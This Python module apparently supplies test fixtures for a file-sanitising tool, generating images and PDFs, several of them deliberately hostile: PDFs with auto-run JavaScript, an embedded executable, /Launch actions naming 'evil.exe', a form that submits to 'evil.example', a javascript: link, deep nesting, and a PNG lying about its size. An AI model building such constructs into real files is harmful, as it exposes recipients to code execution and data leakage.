"""Files as people and programs send them, made by code: pictures, drawings, documents, and hostile ones."""

import struct
import zlib
from io import BytesIO

from PIL import Image, ImageDraw
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

SVG = 'xmlns="http://www.w3.org/2000/svg"'
ORIENTATION, GPS, MAKER = 0x0112, 0x8825, 0x010F


def photograph(width=1600, height=1000):
    """A picture of more than 256 colours."""
    image = Image.linear_gradient("L").resize((width, height))
    other = Image.radial_gradient("L").resize((width, height))
    return Image.merge("RGB", (image, other, image.transpose(Image.Transpose.ROTATE_180)))


def saved(image, form, **options):
    with BytesIO() as file:
        image.save(file, form, **options)
        return file.getvalue()


def jpeg(width=1600, height=1000, **options):
    return saved(photograph(width, height), "JPEG", **options)


def jpeg_of_a_phone(width=600, height=400):
    """A photograph held upright, with the place where it was taken, its camera and a comment."""
    exif = Image.Exif()
    exif[ORIENTATION] = 6
    exif[MAKER] = "A camera that knows its owner"
    exif[GPS] = {1: "N", 2: (19.0, 25.0, 57.0), 3: "W", 4: (99.0, 7.0, 59.0)}
    return jpeg(width, height, exif=exif, comment=b"A word of the owner", xmp=b"<x>owner</x>")


def png(width=40, height=30, colour="white", mode="RGB"):
    """A drawing of few colours."""
    image = Image.new(mode, (width, height), colour)
    ImageDraw.Draw(image).rectangle((2, 2, width // 2, height // 2), fill="navy")
    return saved(image, "PNG")


def png_of_size(width, height):
    """A PNG of a few bytes that says it is as large as asked."""

    def chunk(kind, data):
        whole = kind + data
        return struct.pack(">I", len(data)) + whole + struct.pack(">I", zlib.crc32(whole))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\0" * 1000)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    )


def animation(form):
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue")]
    return saved(frames[0], form, save_all=True, append_images=frames[1:])


def svg(inside='<circle cx="5" cy="5" r="4"/>', attributes='viewBox="0 0 20 10"'):
    return f"<svg {SVG} {attributes}>{inside}</svg>".encode()


def pdf(change=lambda writer: None, pages=1):
    """A document, changed before it is written."""
    writer = PdfWriter()
    for _number in range(pages):
        writer.add_blank_page(200, 200)
    change(writer)
    with BytesIO() as file:
        writer.write(file)
        return file.getvalue()


def with_script(writer):
    script = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('owned')"),
        }
    )
    root = writer.root_object
    root[NameObject("/OpenAction")] = writer._add_object(script)
    named = ArrayObject([TextStringObject("first"), writer._add_object(script)])
    tree = DictionaryObject({NameObject("/Names"): named})
    root[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})


def with_attachment(writer):
    writer.add_attachment("hidden.exe", b"MZ hidden program")


def with_words_about_it(writer):
    writer.add_metadata({"/Author": "The owner", "/Title": "Secret title"})


def with_photographs(writer):
    """Two photographs as a camera writes them, their filter named in both ways."""
    for name in (NameObject("/DCTDecode"), ArrayObject([NameObject("/DCTDecode")])):
        stream = StreamObject()
        stream._data = jpeg_of_a_phone()
        stream[NameObject("/Filter")] = name
        writer.pages[0][NameObject(f"/Photograph{len(writer._objects)}")] = writer._add_object(
            stream
        )


def with_kinds_elsewhere(writer):
    """A note that says in another part of the file what it is, and an action on a step."""
    kind = writer._add_object(NameObject("/Widget"))
    launch = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("evil.exe")}
    )
    note = DictionaryObject({NameObject("/Subtype"): kind})
    page = writer.pages[0]
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(note)])
    page[NameObject("/PresSteps")] = DictionaryObject({NameObject("/NA"): launch})


def with_form(writer):
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/SubmitForm"),
            NameObject("/F"): TextStringObject("https://evil.example/"),
        }
    )
    widget = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Widget"),
            NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
            NameObject("/A"): action,
        }
    )
    page = writer.pages[0]
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(widget)])
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})


def with_links(writer):
    from pypdf.annotations import Link

    writer.add_annotation(0, Link(rect=(0, 0, 9, 9), url="https://example.org/report"))
    writer.add_annotation(0, Link(rect=(0, 0, 9, 9), url="javascript:alert(1)"))


def with_more_behind_a_link(writer):
    """A link to the web after which a program would be started, and a part of no page."""
    launch = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("evil.exe")}
    )
    with_links(writer)
    link = writer.pages[0]["/Annots"][0].get_object()
    link["/A"][NameObject("/Next")] = launch
    portfolio = DictionaryObject({NameObject("/D"): TextStringObject("evil portfolio")})
    writer.root_object[NameObject("/Collection")] = portfolio


def nested(writer):
    """A part in a part in a part, deeper than any program writes."""
    inner = ArrayObject()
    for _number in range(60):
        inner = ArrayObject([inner])
    writer.pages[0][NameObject("/Deep")] = inner


def locked(writer):
    writer.encrypt("secret")


def transparent_photograph():
    image = photograph(90, 60)
    image.putalpha(Image.linear_gradient("L").resize((90, 60)))
    return saved(image, "PNG")
